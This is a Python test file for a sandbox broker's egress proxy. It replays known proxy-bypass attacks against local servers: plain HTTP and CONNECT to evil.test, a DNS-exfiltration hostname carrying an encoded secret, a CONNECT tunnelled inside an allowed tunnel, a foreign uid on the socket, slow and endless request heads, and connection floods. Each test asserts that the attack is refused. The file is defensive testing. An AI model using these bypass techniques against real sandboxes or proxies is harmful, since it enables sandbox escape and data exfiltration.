"""Hostile: a sandboxed program (or another local user) against brokerd's egress proxy.

The bypasses other sandboxes' proxies shipped with, replayed at the proxy: plain HTTP
that was never filtered (claude-code #40213), a CONNECT to a host not allowed that went
through (#89165), an allow-list bypassed by a CONNECT relayed inside an allowed tunnel
(#87381), a DNS query made for a name before the proxy refused it (OpenShell #1169,
sandbox-runtime #88); and the proxy's own surface: another uid on a call's socket, a
request head that never ends, a flood of connections and a head that never stops.

The real brokerd in process, its shell's run replaced by a stand-in that plays the
sandboxed program on the call's own socket as the sandbox's uid (tests/harness/
tunnels.py), local servers on 127.0.0.1, the resolver seam recording every lookup. Each
test asserts the attack's own effect: what the program received and what reached the
host, not only a refusal.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
import trio
import trio.testing
from tests.harness.broker import Brokerd, records
from tests.harness.sandbox import AS_ROOT, SANDBOX_UID
from tests.harness.tunnels import (
    RUNBOOK,
    PlainServer,
    Resolver,
    ShellStandIn,
    TlsEchoServer,
    at_eof,
    connect_calls,
    grants,
    network_grant,
    proxy_connect,
    proxy_get,
    run_shell,
    the_connection,
    with_egress,
)

from boxmaker.broker.proxy_head import HEAD_S, MAX_HEAD
from boxmaker.home.paths import Home

pytestmark = pytest.mark.usefixtures("inline_threads")

Clock = trio.testing.MockClock


@pytest.fixture
async def plain(nursery: trio.Nursery) -> PlainServer:
    served = PlainServer()
    await nursery.start(served.serve)
    return served


def decisions(home: Home) -> list[tuple[str, str | None, dict[str, Any]]]:
    return [
        (r["verdict"], r["reason"], r["arguments"])
        for r in records(home)
        if r["kind"] == "decision" and r["tool"] == "connect"
    ]


# -- plain HTTP (claude-code #40213) ------------------------------------------------------


async def test_plain_http_is_decided_like_a_connect_and_refused_unless_granted(
    home: Home,
    started: Brokerd,
    plain: PlainServer,
    resolver: Resolver,
    shell: ShellStandIn,
    autojump_clock: Clock,
) -> None:
    # A grant for the host's TLS only: plain HTTP to it, and to any other host, is refused.
    grants(home, network_grant([f"svc.test:{plain.port}", f"127.0.0.1:{plain.port}"]))
    answers = []

    async def program(directory: Path) -> str:
        first, second = await shell.connect(directory, 2)
        url = f"http://svc.test:{plain.port}/secret?q=1"
        answers.append(await proxy_get(first, url, f"svc.test:{plain.port}"))
        answers.append(await proxy_get(second, "http://evil.test/x", "evil.test"))
        return "tried"

    shell.program = program
    await run_shell(home)
    granted_host, other_host = answers
    assert granted_host.status == other_host.status == 403
    assert granted_host.body.decode().startswith(
        "boxmaker: GET http://svc.test: denied no_grant\n(no grant allows it)\n"
    )
    assert f"see {RUNBOOK}" in other_host.body.decode()
    assert plain.requests == []
    assert resolver.lookups == []
    assert [(verdict, reason) for verdict, reason, _ in decisions(home)] == [
        ("deny", "no_grant"),
        ("deny", "no_grant"),
    ]
    assert [args["scheme"] for _, _, args in decisions(home)] == ["http", "http"]


async def test_plain_http_where_granted_goes_once_in_origin_form_to_the_named_host(
    home: Home,
    started: Brokerd,
    plain: PlainServer,
    shell: ShellStandIn,
    autojump_clock: Clock,
) -> None:
    port = plain.port
    grants(home, network_grant([f"svc.test:{port}", f"127.0.0.1:{port}"], plain_http="true"))
    answers = []

    async def program(directory: Path) -> str:
        good, mismatched = await shell.connect(directory, 2)
        extra = [("proxy-authorization", "Basic c2VjcmV0"), ("connection", "keep-alive")]
        answers.append(
            await proxy_get(good, f"http://svc.test:{port}/x?y=1", f"svc.test:{port}", extra)
        )
        assert await at_eof(good)
        # The Host header naming another host than the URL: refused before any decision.
        answers.append(await proxy_get(mismatched, f"http://svc.test:{port}/", "evil.test"))
        return "fetched"

    shell.program = program
    await run_shell(home)
    fetched, refused = answers
    assert (fetched.status, fetched.body) == (200, b"hello")
    [request] = plain.requests
    assert request.target == b"/x?y=1"
    assert dict(request.headers) == {b"host": f"svc.test:{port}".encode(), b"connection": b"close"}
    assert refused.status == 400
    assert b"the Host header is not the URL's host" in refused.body
    assert len(decisions(home)) == 1
    connection = the_connection(home)
    assert (connection["ended"], connection["server_name"]) == ("closed", None)
    assert connection["bytes_up"] == len(plain.raw[0])


# -- CONNECT to a host not allowed, and the lookup before it (#89165, OpenShell #1169) ----


async def test_a_connect_not_allowed_is_refused_before_its_name_is_ever_looked_up(
    home: Home,
    started: Brokerd,
    server: TlsEchoServer,
    resolver: Resolver,
    shell: ShellStandIn,
    autojump_clock: Clock,
) -> None:
    grants(home, network_grant(["svc.test"]))
    answers = []

    async def program(directory: Path) -> str:
        streams = await shell.connect(directory, 3)
        # Another host; the allowed host on a port the grant does not name; a name that
        # would carry data out through a DNS query.
        targets = [("evil.test", 443), ("svc.test", server.port), ("c2VjcmV0.exfil.test", 443)]
        for stream, (host, port) in zip(streams, targets, strict=True):
            answers.append(await proxy_connect(stream, host, port))
        return "tried"

    shell.program = program
    await run_shell(home)
    assert [a.status for a in answers] == [403, 403, 403]
    assert all(b"denied no_grant" in a.body for a in answers)
    assert resolver.lookups == []
    assert server.connections == []
    assert [(v, r, a["host"]) for v, r, a in decisions(home)] == [
        ("deny", "no_grant", "evil.test"),
        ("deny", "no_grant", "svc.test"),
        ("deny", "no_grant", "c2vjcmv0.exfil.test"),
    ]


async def test_an_allowed_name_pointing_at_a_private_address_is_looked_up_once_and_not_dialled(
    home: Home,
    started: Brokerd,
    server: TlsEchoServer,
    resolver: Resolver,
    shell: ShellStandIn,
    autojump_clock: Clock,
) -> None:
    # The grant names the host, not the address: whoever runs its DNS chose 127.0.0.1.
    grants(home, network_grant([f"svc.test:{server.port}"]))
    answers = []

    async def program(directory: Path) -> str:
        [stream] = await shell.connect(directory)
        answers.append(await proxy_connect(stream, "svc.test", server.port))
        return "tried"

    shell.program = program
    await run_shell(home)
    [answer] = answers
    assert answer.status == 502
    assert (
        "svc.test resolves to 127.0.0.1, a loopback address, which the grant does not name; "
        f"see {RUNBOOK}"
    ) in answer.body.decode()
    assert resolver.lookups == [("svc.test", server.port)]
    assert server.connections == []
    [connect] = connect_calls(home)
    result = [r for r in records(home) if r["kind"] == "result" and r["call"] == connect]
    assert [(r["status"], r["reason"]) for r in result] == [("failed", "tool_error")]


# -- a CONNECT relayed inside an allowed tunnel (#87381) ----------------------------------


async def test_a_connect_relayed_through_an_allowed_tunnel_reaches_nothing(
    home: Home,
    started: Brokerd,
    server: TlsEchoServer,
    shell: ShellStandIn,
    autojump_clock: Clock,
) -> None:
    grants(home, network_grant([f"127.0.0.1:{server.port}"]))
    got_after = []

    async def program(directory: Path) -> str:
        [stream] = await shell.connect(directory)
        assert (await proxy_connect(stream, "127.0.0.1", server.port)).status == 200
        # The attack: use the open tunnel as a proxy to anywhere (a proxy, or a program
        # speaking plain HTTP or SSH through the hole).
        await stream.send_all(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
        got_after.append(await at_eof(stream))
        return "tried"

    shell.program = program
    await run_shell(home)
    assert got_after == [True]  # closed, nothing answered
    [received] = server.connections
    await received.ended.wait()
    assert received.data == b""
    assert the_connection(home)["ended"] == "not_tls"


# -- another local uid on a call's socket -------------------------------------------------

_OTHER_UID = SANDBOX_UID - 1
_TRY = """
import json, socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect(f"/proc/self/fd/{sys.argv[1]}/proxy.sock")
except OSError as exc:
    print(json.dumps({"connected": False, "errno": exc.errno})); sys.exit()
s.settimeout(5)
data, end = b"", "eof"
try:
    s.sendall(b"CONNECT " + sys.argv[2].encode() + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    while b"\\r\\n\\r\\n" not in data and (chunk := s.recv(65536)):
        data += chunk
except (BrokenPipeError, ConnectionResetError):
    end = "closed"
print(json.dumps({"connected": True, "received": data.decode("latin-1"), "end": end}))
"""


async def try_as(uid: int, directory: Path, target: str) -> dict[str, Any]:
    """What a process of ``uid`` got trying the call's socket (it reaches the directory
    through a descriptor: the home's run/ would stop it first otherwise)."""
    dirfd = os.open(directory, os.O_PATH | os.O_DIRECTORY)
    try:
        done = await trio.run_process(
            ["/usr/bin/python3", "-I", "-S", "-c", _TRY, str(dirfd), target],
            pass_fds=(dirfd,),
            user=uid,
            group=uid,
            extra_groups=[],
            capture_stdout=True,
            capture_stderr=True,
            check=False,
        )
        assert done.returncode == 0, done.stderr.decode()
    finally:
        os.close(dirfd)
    return json.loads(done.stdout)  # type: ignore[no-any-return]


@pytest.mark.skipif(not AS_ROOT, reason="needs root: another uid must try the socket")
async def test_another_uid_cannot_use_a_calls_socket(
    home: Home, started: Brokerd, server: TlsEchoServer, shell: ShellStandIn
) -> None:
    grants(home, network_grant([f"127.0.0.1:{server.port}"]))
    tries = []
    target = f"127.0.0.1:{server.port}"

    async def program(directory: Path) -> str:
        # As made: the directory is the sandbox uid's, 0700; another uid cannot reach it.
        tries.append(await try_as(_OTHER_UID, directory, target))
        # Opened wide, as a mistake could leave it: the peer check still refuses it.
        await trio.Path(directory).chmod(0o777)
        await trio.Path(directory / "proxy.sock").chmod(0o666)
        tries.append(await try_as(_OTHER_UID, directory, target))
        # The sandbox's own uid is served (the proof that the socket answers at all).
        tries.append(await try_as(SANDBOX_UID, directory, target))
        return "tried"

    shell.program = program
    with trio.fail_after(60):
        await run_shell(home)
    as_made, opened, own = tries
    assert as_made == {"connected": False, "errno": 13}
    # Closed at once, its request unread: not one byte answered (whether the close
    # came before its request was sent or after, which the kernel then reports as reset).
    assert opened == {"connected": True, "received": "", "end": "closed"}
    assert own["received"].startswith("HTTP/1.1 200 Connection established\r\n")
    assert [a["host"] for _, _, a in decisions(home)] == ["127.0.0.1"]


# -- the proxy's own surface ----------------------------------------------------------------


async def test_a_head_that_never_ends_is_dropped_at_the_head_limit(
    home: Home, started: Brokerd, shell: ShellStandIn, autojump_clock: Clock
) -> None:
    grants(home, network_grant(["svc.test"]))
    closed_after = []

    async def program(directory: Path) -> str:
        [stream] = await shell.connect(directory)
        began = trio.current_time()
        await stream.send_all(b"CONNECT svc.test:443 HTTP/1.1\r\n")
        with pytest.raises(trio.BrokenResourceError):
            await trickle(stream)
        closed_after.append(trio.current_time() - began)
        return "dropped"

    shell.program = program
    await run_shell(home)
    [after] = closed_after
    assert HEAD_S <= after <= HEAD_S + 1
    assert decisions(home) == []


async def trickle(stream: trio.SocketStream) -> None:
    """One header line a second, never the blank line that ends the head."""
    while True:
        await stream.send_all(b"X-Slow: 1\r\n")
        await trio.sleep(1)


async def endless_head(stream: trio.SocketStream, sent: list[int]) -> None:
    """A request head that never stops (up to 64 MiB); ``sent`` counts what went."""
    await stream.send_all(b"GET http://svc.test/ HTTP/1.1\r\nX: ")
    while sent[0] < 64 * 1024 * 1024:
        await stream.send_all(b"a" * 65536)
        sent[0] += 65536


async def test_a_flood_of_connections_and_an_endless_head_are_bounded(
    home: Home, started: Brokerd, shell: ShellStandIn, autojump_clock: Clock
) -> None:
    cap = 16
    started.broker.config = with_egress(started, tunnels_per_call=cap)  # type: ignore[union-attr]
    grants(home, network_grant(["svc.test"]))
    seen: dict[str, Any] = {}

    async def program(directory: Path) -> str:
        streams = await shell.connect(directory, 40)
        held, over = streams[:cap], streams[cap:]
        seen["over"] = [await s.receive_some(65536) for s in over]
        # A head that never stops: the proxy reads at most MAX_HEAD of it, answers 431.
        sent = [0]
        answer = b""

        async def flood() -> None:
            with pytest.raises(trio.BrokenResourceError):
                await endless_head(held[0], sent)

        async with trio.open_nursery() as nursery:
            nursery.start_soon(flood)
            while not answer.endswith(b"\n") or b"\r\n\r\n" not in answer:
                data = await held[0].receive_some(65536)
                if not data:
                    break
                answer += data
        seen["answer"], seen["sent"] = answer, sent[0]
        seen["rest"] = [await at_eof(s) for s in held[1:]]
        return "flooded"

    shell.program = program
    began = trio.current_time()
    await run_shell(home)
    assert len(seen["over"]) == 40 - cap
    assert all(o.startswith(b"HTTP/1.1 503 Service Unavailable\r\n") for o in seen["over"])
    assert seen["answer"].startswith(b"HTTP/1.1 431 ")
    assert seen["sent"] < 4 * 1024 * 1024  # refused long before the flood's end
    assert seen["rest"] == [True] * (cap - 1)  # silent connections dropped at the head limit
    assert trio.current_time() - began < HEAD_S + 1
    assert decisions(home) == []
    assert MAX_HEAD == 16 * 1024
